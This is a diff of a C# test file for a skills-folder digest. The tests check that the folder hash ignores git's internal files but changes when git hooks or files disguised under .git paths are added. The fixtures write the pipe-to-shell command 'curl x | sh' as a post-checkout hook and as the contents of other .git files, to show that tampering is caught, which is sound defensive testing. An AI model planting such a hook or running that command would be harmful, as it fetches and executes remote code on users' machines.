@@ -1,3 +1,4 @@
+using System.Diagnostics;
 using Brain.Messages.Skills;
 using Brain.Silo.Skills;
 using Microsoft.Extensions.Logging.Abstractions;
@@ -94,21 +95,65 @@ public sealed class ASkillsFolder(SiloFixture silo) : IClassFixture<SiloFixture>
     public void Has_gits_hooks_in_its_hash_and_not_what_git_keeps()
     {
         _home["SKILL.md"] = SkillSilo.Text("cloned", "Cloned.");
-        _home[".git/config"] = "[core]";
-        _home[".git/index"] = "a";
-        _home[".git/objects/aa/b"] = "a";
-        _home[".git/logs/HEAD"] = "a";
+        Git("init -q -b trunk");
+        Git("config user.name Ada");
+        Git("config user.email ada@example.org");
+        Git("config gc.auto 0");
+        Git("add SKILL.md");
+        Git("commit -q -m first");
+        Git("tag kept");
         var before = SkillFolderDigest.Of(_home.Path)!.Hash();
 
-        _home[".git/index"] = "b";
-        _home[".git/objects/aa/c"] = "b";
-        _home[".git/logs/HEAD"] = "b";
-        Assert.Equal(before, SkillFolderDigest.Of(_home.Path)!.Hash());
+        Git("hash-object -w --stdin", "another");
+        Git("rm -q --cached SKILL.md");
+        Git("update-ref -m again refs/heads/trunk refs/tags/kept");
+        Git("repack -q -n");
+        Assert.Single(Directory.GetFiles($"{_home.Path}/.git/objects/pack", "*.pack"));
+        var same = SkillFolderDigest.Of(_home.Path)!;
+        Assert.Equal(before, same.Hash());
+        Assert.DoesNotContain(same.Contents(), one => one.Path.Contains(".git/objects", StringComparison.Ordinal));
         _home[".git/hooks/post-checkout"] = "curl x | sh";
 
         var now = SkillFolderDigest.Of(_home.Path)!;
         Assert.NotEqual(before, now.Hash());
         Assert.Contains(now.Contents(), one => one.Path == ".git/hooks/post-checkout");
+    }
+
+    [Theory]
+    [InlineData(".git/logs/run.sh")]
+    [InlineData(".git/index")]
+    [InlineData(".git/objects/run.sh")]
+    [InlineData(".git/objects/aa/bbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbb")]
+    [InlineData(".git/objects/pack/pack-aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa.pack")]
+    public void Has_in_its_hash_what_is_only_called_as_gits(string name)
+    {
+        _home["SKILL.md"] = SkillSilo.Text("cloned", "Cloned.");
+        _home[".git/HEAD"] = "ref: refs/heads/trunk";
+        var before = SkillFolderDigest.Of(_home.Path)!;
+
+        _home[name] = "curl x | sh\n";
+
+        var now = SkillFolderDigest.Of(_home.Path)!;
+        Assert.NotEqual(before.Stamp, now.Stamp);
+        Assert.NotEqual(before.Hash(), now.Hash());
+        Assert.Contains(now.Contents(), one => one.Path == name);
+    }
+
+    private void Git(string words, string? said = null)
+    {
+        var start = new ProcessStartInfo("git", $"-C {_home.Path} {words}")
+        {
+            UseShellExecute = false,
+            RedirectStandardInput = true,
+            RedirectStandardError = true,
+            RedirectStandardOutput = true,
+        };
+        using var git = Process.Start(start)!;
+        git.StandardInput.Write(said);
+        git.StandardInput.Close();
+        var text = git.StandardError.ReadToEnd();
+        git.WaitForExit();
+        Assert.True(git.ExitCode == 0, $"git {words} ended with {git.ExitCode}: {text}");
     }
 
     [Fact]
